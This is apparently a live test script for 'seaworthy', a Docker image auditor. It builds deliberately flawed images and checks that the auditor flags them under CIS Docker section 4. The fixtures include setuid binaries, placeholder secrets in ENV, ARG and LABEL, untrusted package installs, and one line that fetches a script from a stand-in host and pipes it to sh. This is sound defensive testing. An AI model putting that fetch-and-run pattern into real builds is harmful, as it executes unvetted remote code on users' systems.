#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Builds images on a running engine, from its sw/busybox:1, that differ from a sound one in one thing
# each, and checks what seaworthy says of them (CIS Docker 1.8.0, section 4):
#
#	images.sh ENGINE
#
# with the program in $SEAWORTHY. Both builders are tried; one that an engine lacks is named in a note.
# Prints what is wrong and ends with "N passed, M failed".

here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=tests/live/lib.sh disable=SC1091
. "$here/lib.sh"
# The engine is the caller's to stop.
trap - EXIT HUP INT TERM

engine=${1:?images.sh ENGINE}
seaworthy=${SEAWORTHY:?the program to test}
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
passed=0
failed=0

# What is built: a name, and a Dockerfile after FROM. "#" begins another line of it.
recipes='
plain		USER 1000 # HEALTHCHECK CMD true # COPY file /file
health-none	HEALTHCHECK NONE # COPY file /file
update		RUN apt-get update || true # HEALTHCHECK CMD true
update-install	RUN apt-get update && apt-get install -y x || true
add		ADD file /file
setuid		RUN cp /bin/busybox /opt/su && chmod 4755 /opt/su
setuid-gone	RUN cp /bin/busybox /opt/su && chmod 4755 /opt/su # RUN rm /opt/su
setuid-mended	RUN cp /bin/busybox /opt/su && chmod 4755 /opt/su # RUN chmod 0755 /opt/su
setuid-link	RUN cp /bin/busybox /opt/su && chmod 4755 /opt/su && ln /opt/su /opt/sx
setgid-folder	RUN mkdir /x && chmod 2775 /x
secret-env	ENV DB_PASSWORD=hunter2hunter2
secret-arg	ARG API_TOKEN=abcdefgh12345678 # RUN true
secret-label	LABEL key=AKIAIOSFODNN7EXAMPLE
careless	RUN apk add --allow-untrusted x || true
piped		RUN wget -qO- http://192.0.2.1/ | sh || true
'

# name, ref, verdict. A name `*` is all that have no line of their own.
expected='
*		4.6	fail
plain		4.6	pass
update		4.6	pass
*		4.7	pass
update		4.7	fail
*		4.8	pass
setuid		4.8	fail
setuid-link	4.8	fail
*		4.9	pass
add		4.9	fail
*		4.10	pass
secret-env	4.10	fail
secret-arg	4.10	fail
secret-label	4.10	fail
*		4.11	warn
careless	4.11	fail
piped		4.11	fail
'

note()
{
	printf 'note: %s: %s\n' "$engine" "$*"
}

check()
{
	if [ "$2" = "$3" ]; then
		passed=$((passed + 1))
	else
		failed=$((failed + 1))
		printf '%s: %s: wanted %s, got %s\n' "$engine" "$1" "$2" "$3"
	fi
}

context_make()
{
	mkdir -p "$work/$1"
	echo content >"$work/$1/file"
	{
		echo 'FROM sw/busybox:1'
		printf '%s\n' "$2" | sed 's/ # /\n/g'
	} >"$work/$1/Dockerfile"
}

# Without the client, so that one without BuildKit's plugin will do: version 1 is the older builder.
build_raw()
{
	local version=$1 name=$2 reply

	reply=$(tar -C "$work/$name" -c . |
		curl -s -m 120 --unix-socket "$(engine_sock "$engine")" -X POST -H 'Content-Type: application/x-tar' \
			--data-binary @- "http://d/build?version=$version&t=sw-$version/$name:1&rm=1&networkmode=none")
	d "$engine" image inspect "sw-$version/$name:1" >/dev/null 2>&1 && return 0
	printf '%s\n' "$reply" | tail -n 1 | cut -c1-200
	return 1
}

# Containers make images count as used; created is enough. A builder that cannot make the plain one is not
# there.
build_all()
{
	local version=$1 name recipe why

	while read -r name recipe; do
		[ "$name" ] || continue
		context_make "$name" "$recipe"
		if ! why=$(build_raw "$version" "$name"); then
			if [ "$name" = plain ]; then
				note "no builder $version: $why"
				return
			fi
			check "builder $version: $name" built "$why"
			continue
		fi
		d "$engine" create --name "sw-$version-$name" "sw-$version/$name:1" true >/dev/null
	done <<<"$recipes"
}

wanted_of()
{
	local found

	found=$(awk -v n="$1" -v r="$2" '$1 == n && $2 == r { print $3 }' <<<"$expected")
	[ "$found" ] || found=$(awk -v r="$2" '$1 == "*" && $2 == r { print $3 }' <<<"$expected")
	echo "$found"
}

judge_all()
{
	local version name ref got

	"$seaworthy" audit -H "unix://$(engine_sock "$engine")" --layers --only '4.*' -o json="$work/report.json"
	jq -r '.results[] | .ref as $r | .findings[] | [.subject.name, $r, .verdict] | @tsv' \
		"$work/report.json" >"$work/verdicts"
	for version in 1 2; do
		while read -r name _; do
			[ "$name" ] || continue
			d "$engine" image inspect "sw-$version/$name:1" >/dev/null 2>&1 || continue
			for ref in 4.6 4.7 4.8 4.9 4.10 4.11; do
				got=$(awk -F '\t' -v n="sw-$version/$name:1" -v r="$ref" '$1 == n && $2 == r { print $3 }' \
					"$work/verdicts")
				check "builder $version: $name: $ref" "$(wanted_of "$name" "$ref")" "$got"
			done
		done <<<"$recipes"
	done
	check 'no secret gets out' 0 "$(grep -c -e hunter2 -e abcdefgh12345678 -e AKIAIOSFODNN7 "$work/report.json")"
}

# A name that is root in the image's own accounts, and one that is not.
judge_users()
{
	local user

	for user in toor user; do
		d "$engine" create --name "sw-user-$user" --user "$user" sw/busybox:1 true >/dev/null
	done
	"$seaworthy" audit -H "unix://$(engine_sock "$engine")" --layers --only '4.*' -o json="$work/users.json"
	check 'toor is root' fail "$(jq -r '.results[] | select(.ref == "4.1") | .findings[] |
		select(.subject.name == "sw-user-toor").verdict' "$work/users.json")"
	check 'user is not' pass "$(jq -r '.results[] | select(.ref == "4.1") | .findings[] |
		select(.subject.name == "sw-user-user").verdict' "$work/users.json")"
}

# Evidence for one image, bound by its layers, and for another one.
judge_evidence()
{
	local layers

	mkdir -p "$work/evidence"
	layers=$(d "$engine" image inspect sw-1/plain:1 | jq -c '.[0].RootFS.Layers')
	jq -n --argjson l "$layers" --arg t "$(date -u +%Y-%m-%dT%H:%M:%SZ)" '{SchemaVersion: 2, CreatedAt: $t,
		ArtifactType: "container_image", Metadata: {DiffIDs: $l},
		Results: [{Class: "os-pkgs", Vulnerabilities: [{Severity: "HIGH"}]}]}' >"$work/evidence/plain.json"
	echo 'no JSON' >"$work/evidence/broken.json"
	"$seaworthy" audit -H "unix://$(engine_sock "$engine")" --evidence "$work/evidence" --only 4.4 \
		--set max_image_age_days=365 \
		-o json="$work/scans.json"
	check 'evidence of plain' pass "$(jq -r '.results[].findings[] |
		select(.subject.name == "sw-1/plain:1").verdict' "$work/scans.json")"
	check 'evidence of another' warn "$(jq -r '.results[].findings[] |
		select(.subject.name == "sw-1/add:1").verdict' "$work/scans.json")"
}

# The most that the processes of the audit ever held together, in KiB, while 200 MB of layers go through.
judge_memory()
{
	local pid child peak=0 n p i

	mkdir -p "$work/big/d"
	for (( i = 0; i < 200; i++ )); do
		head -c 1000000 /dev/urandom >"$work/big/d/$i"
	done
	tar -C "$work/big" -c . | d "$engine" import - sw-big:1 >/dev/null
	rm -rf "$work/big"
	"$seaworthy" audit -H "unix://$(engine_sock "$engine")" --layers --only 4.8 -o json="$work/big.json" &
	pid=$!
	while kill -0 $pid 2>/dev/null; do
		n=0
		child=$(cat /proc/$pid/task/*/children 2>/dev/null)
		for p in $pid $child; do
			n=$(( n + $(awk '$1 == "VmHWM:" { print $2 }' "/proc/$p/status" 2>/dev/null || echo 0) + 0 ))
		done
		[ "$n" -le "$peak" ] || peak=$n
	done
	wait $pid
	check 'the big image is judged' pass "$(jq -r '.results[].findings[] |
		select(.subject.name == "sw-big:1").verdict' "$work/big.json")"
	note "walking 200 MB took $peak KiB at most"
	check 'memory is below 32 MiB' 1 $(( peak > 0 && peak < 32 * 1024 ))
}

# How often the image that was asked for most often was, and how many there are: of inspect and history each.
asked()
{
	strace -f -qq -s 300 -e trace=sendto -o "$work/trace" "$seaworthy" audit \
		-H "unix://$(engine_sock "$engine")" --only '4.*' -o json="$work/asked.json"
	grep -oE 'GET /[^ ]*/images/sha256:[^ ]*' "$work/trace" | sort | uniq -c | sort -rn |
		awk 'NR == 1 { most = $1 } END { print most + 0, NR / 2 }'
}

# Each is asked for once while the replies are small enough to be kept; when they are not, twice, and none
# is lost.
judge_requests()
{
	local i n most images

	n=$(d "$engine" image ls -q --no-trunc | sort -u | wc -l)
	check 'images are asked for once' "1 $n" "$(asked)"
	for i in $(seq 30); do
		head -c 50000 /dev/zero | tr '\0' x >"$work/label"
		d "$engine" commit -c "LABEL big$i=$(cat "$work/label")" sw-1-plain "sw-label:$i" >/dev/null
	done
	n=$(d "$engine" image ls -q --no-trunc | sort -u | wc -l)
	read -r most images <<<"$(asked)"
	check 'large ones are asked for again' "2 $n" "$most $images"
	check 'and all are judged' 30 "$(jq '[.results[] | select(.ref == "4.6") | .findings[] |
		select(.subject.name | startswith("sw-label:"))] | length' "$work/asked.json")"
}

build_all 1
build_all 2
judge_all
judge_requests
judge_users
judge_evidence
judge_memory
echo "$passed passed, $failed failed"
[ $failed -eq 0 ]
